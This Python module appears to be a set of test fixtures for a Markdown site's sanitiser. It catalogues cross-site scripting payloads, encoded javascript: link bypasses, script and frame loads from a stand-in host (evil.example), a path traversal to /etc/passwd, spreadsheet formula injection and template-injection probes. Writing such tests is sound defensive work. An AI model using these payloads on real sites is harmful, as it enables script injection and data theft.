"""Contributions that try to act. The site shows them as text, or without what would act.

Each is the body of a page. What they would do, if they could: set `window.pwned`, ask somebody else's
server for a file, open a dialog, or lead a click to a script.
"""

from __future__ import annotations

RUN = "window.pwned=1"

#: HTML in every disguise.
HTML = {
    "script": f"<script>{RUN}</script>",
    "script-in-capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script-in-pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-with-slash": f"<script/x>{RUN}</script>",
    "script-from-elsewhere": "<script src=//evil.example/x.js></script>",
    "script-never-closed": f"<script>{RUN}",
    "script-over-lines": f"<script\n>\n{RUN}\n</script\n>",
    "script-in-a-comment": f"<!--><script>{RUN}</script>-->",
    "script-after-a-comment": f"<!-- --!><script>{RUN}</script>",
    "script-in-a-list": f"- one\n- <script>{RUN}</script>",
    "script-in-a-quote": f"> <script>{RUN}</script>",
    "script-in-a-table": f"| a | b |\n|---|---|\n| <script>{RUN}</script> | <img src=x onerror={RUN}> |",
    "script-in-a-heading": f"## <script>{RUN}</script> {{#a}}\n\n### <img src=x onerror={RUN}> {{#b}}\n\n## c {{#c}}\n\n## d {{#d}}",
    "script-in-a-box": f'!!! note "<script>{RUN}</script>"\n    <script>{RUN}</script>',
    "script-in-a-fold": f'??? note "<img src=x onerror={RUN}>"\n    <img src=x onerror={RUN}>',
    "script-in-a-fence": f"```\n<script>{RUN}</script>\n```",
    "script-in-a-fence-s-language": f'```"><script>{RUN}</script>\nx\n```',
    "script-in-a-fence-s-title": f'``` {{ .py title="</span><script>{RUN}</script>" onclick="{RUN}" }}\nx\n```',
    "script-in-code": f"`<script>{RUN}</script>`",
    "script-as-an-entity": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#x3c;/script>",
    "script-in-an-entity-heading": f"## &lt;img src=x onerror={RUN}&gt; {{#a}}\n\n## b {{#b}}\n\n## c {{#c}}",
    "script-for-a-template": f"</div></article><script>{RUN}</script>",
    "image-with-a-handler": f"<img src=x onerror={RUN}>",
    "image-with-a-handler-quoted": f'<img src="x" onerror="{RUN}">',
    "image-with-slashes": f"<img/src=x/onerror={RUN}>",
    "image-half-closed": f"<img src=x onerror={RUN}//",
    "drawing": f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x></svg>",
    "drawing-that-uses": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'></svg>",
    "formula": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "video": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "frame": "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.pwned=1</script>'></object><embed src=//evil.example/x>",
    "form": f"<form action=https://evil.example/><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>x</button></form>",
    "base": "<base href=https://evil.example/>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "link-to-a-style": "<link rel=stylesheet href=https://evil.example/x.css><style>@import '//evil.example/x.css'</style>",
    "body-handler": f"<body onload={RUN}>",
    "style-attribute": "<p style=\"background:url(https://evil.example/x.png)\">x</p>",
    "template-element": f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "processing-instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "markdown-in-html": f'<div markdown="1" onclick="{RUN}">*x*</div>',
    "snippet": "--8<-- \"../../../../etc/passwd\"",
}

#: Links and pictures.
LINKS = {
    "javascript": f"[x](javascript:{RUN})",
    "javascript-in-capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript-with-a-tab": f"[x](java\tscript:{RUN}) [x](<java\tscript:{RUN}>)",
    "javascript-with-entities": f"[x](java&#115;cript:{RUN}) [x](&#x6A;avascript&colon;{RUN}) [x](java&Tab;script:{RUN}) [x](java&NewLine;script:{RUN})",
    "javascript-with-entities-in-brackets": f"[x](<javascript&#58;{RUN}>) [x](<&#106;avascript:{RUN}>)",
    "javascript-after-a-space": f"[x]( javascript:{RUN}) [x](<\x01javascript:{RUN}>) [x](<&#1;javascript:{RUN}>)",
    "javascript-encoded": f"[x](javascript%3A{RUN}) [x](%6Aavascript:{RUN}) [x](java%0Ascript:{RUN})",
    "javascript-by-definition": f"[x][d]\n\n[d]: javascript:{RUN}",
    "javascript-by-definition-with-entities": f"[x][d]\n\n[d]: <java&#115;cript:{RUN}>",
    "javascript-in-angle-brackets": f"<javascript:{RUN}> <JAVASCRIPT:alert(1)>",
    "javascript-as-a-comment": f"[x](javascript://%0a{RUN})",
    "javascript-in-a-title": f'[x](about.md "\\"onmouseover=\\"{RUN}") [x](about.md \'"><img src=x onerror={RUN}>\')',
    "javascript-by-attribute": f'[x](about.md){{: href="javascript:{RUN}" }} [x](about.md){{ href=javascript:{RUN} }}',
    "javascript-by-namespace": f'[x](about.md){{: xlink:href="javascript:{RUN}" formaction="javascript:{RUN}" }}',
    "vbscript": "[x](vbscript:msgbox(1)) [x](VBSCRIPT&#58;x)",
    "data": "[x](data:text/html,<script>window.pwned=1</script>) [x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "data-by-definition": "[x][d]\n\n[d]: data:text/html,<script>opener.pwned=1</script>",
    "blob-and-file": "[x](blob:https://evil.example/x) [x](file:///etc/passwd) [x](filesystem:x) [x](view-source:x) [x](chrome://x)",
    "intent": "[x](intent://evil.example/#Intent;scheme=https;end) [x](market://details?id=x) [x](ms-msdt:/id)",
    "picture-of-a-style": "x{: style=\"background:url(//evil.example/x.png)\" background=\"//evil.example/x.png\" }",
    "address-in-two-parts": "[x](https://bank.example@evil.example/) [x](https:evil.example) [x](https:/\\evil.example)",
    "address-nobody-can-read": "[x](http://[::1) [x](http://[x]/) [x](//[)",
    "link-in-a-link": f"[a [b](javascript:{RUN}) c](about.md) [[x](javascript:{RUN})]",
    "nul-in-a-link": f"[x](java\x00script:{RUN})",
    "javascript-with-escapes": f"[x](javascript\\:{RUN}) [x](java\\script:{RUN}) [x](\\javascript:{RUN}) [x](&#92;x0026;)",
    "set-aside": f"[x](set-aside:javascript:{RUN}) [x](set-aside:https://evil.example/x)",
    "set-aside-twice": f"[x](set-aside:set-aside:javascript:{RUN}) [x](SET-ASIDE:javascript:{RUN}) [x](set-aside&colon;javascript:{RUN})",
}

#: Attribute lists.
ATTRIBUTES = {
    "handler-on-a-paragraph": f'Words\n{{: onclick="{RUN}" onpointerenter="{RUN}" }}',
    "handler-on-a-heading": f'## A {{#a onclick="{RUN}" }}',
    "handler-in-a-word": f'*x*{{ onmouseover={RUN} autofocus tabindex=1 onfocus={RUN} }}',
    "handler-with-a-strange-name": f'*x*{{ ONCLICK="{RUN}" on/click="{RUN}" onclick\x0c="{RUN}" "onclick={RUN}" }}',
    "handler-in-a-value": f"*x*{{ title='\"><script>{RUN}</script>' class='\"onclick=\"{RUN}' }}",
    "handler-on-a-cell": f'| a |\n|---|\n| x {{ onclick="{RUN}" }} |',
    "handler-on-an-item": f'- x\n{{: onclick="{RUN}" }}',
    "style-on-a-paragraph": 'Words\n{: style="position:fixed;inset:0;background:url(//evil.example/x.png)" }',
    "takes-the-page-s-own-classes": '!!! exit "x"\n    x\n\n??? exit-bar "x"\n    x\n\n```exit\nx\n```\n\n*x*{: .exit-cover .skip .visually-hidden }\n\n## x {#exit-said}\n\n## y {#search}',
    "takes-the-exit-s-place": '[Leave](https://evil.example/){: .exit #exit data-inside="https://evil.example/" target="_top" ping="https://evil.example/" download="x.html" }',
    "takes-a-name-of-the-page": '## x {#location}\n\n## y {#document}\n\n*x*{ #body name="body" }\n\n## __proto__ {#__proto__}',
    "our-own-marks": f'*x*{{ fact="x" cited="x" data-age="{RUN}" }} `x`{{ state="recalled" section="x" }}',
}

#: Text that breaks out of the places where it is shown again.
TEXTS = {
    "template": "{{ 7*7 }} {% for x in range(9) %}x{% endfor %} {{ config }} {{ ''.__class__.__mro__ }} {# gone #}",
    "template-in-a-heading": "## {{ 7*7 }} {% raw %} {#a}\n\n## {{ config.site_name }} {#b}\n\n## c {#c}",
    "end-of-a-script": f"</script><script>{RUN}</script> <!-- ]]> --> \u2028 \u2029 ');{RUN};// \\u003c/script>",
    "private-signs": "\uf8ff0\uf8ff \x02klzzwxh:0000\x03 \x02amp\x03 \x02wzxhzdk:0\x03 &amp;#60;script&gt;",
    "unfinished": "[x](<a [y]( ![z][ `code ``more **bold *em _u {: { [@ [fact: <a href=\"",
    "right-to-left": "\u202e)tpircs\u202c \u2066x\u2069 \u200f",
    "zalgo": "Z" + "\u0301\u0316" * 90 + " end",
    "formula-in-a-cell": "| a | b |\n|---|---|\n| =cmd\\|'/c calc'!A0 | @SUM(1+1) |",
    "notation-in-code": "`[section:recalled:a]` \\[section:recalled:a] `[fact:x.y]` \\[@x]",
}

BODIES: dict[str, str] = {**HTML, **LINKS, **ATTRIBUTES, **TEXTS}

#: What titles, summaries, makers and sources may try.
WORDS = {
    "script": f"</title><script>{RUN}</script>",
    "picture": f"\"><img src=x onerror={RUN}>",
    "handler": f"' onfocus={RUN} autofocus x='",
    "end-of-a-script": f"</script><script>{RUN}</script><!--",
    "template": "{{ 7*7 }}{% include 'main.html' %}",
    "formula": "=cmd|'/c calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "end-of-cdata": "]]><script>window.pwned=1</script>",
    "line-of-a-calendar": "x\\r\\nATTACH:https://evil.example/\\nBEGIN:VALARM",
    "line-of-a-catalogue": "x\\nmsgid \\\"\\\"",
    "line-separators": "a\u2028b\u2029c",
    "entities": "&lt;script&gt;&#60;img src=x onerror=window.pwned=1&#62;",
    "markup": f"**x** [x](javascript:{RUN}) `x`",
    "search": f"<mark>{RUN}</mark> __proto__ constructor toString",
}
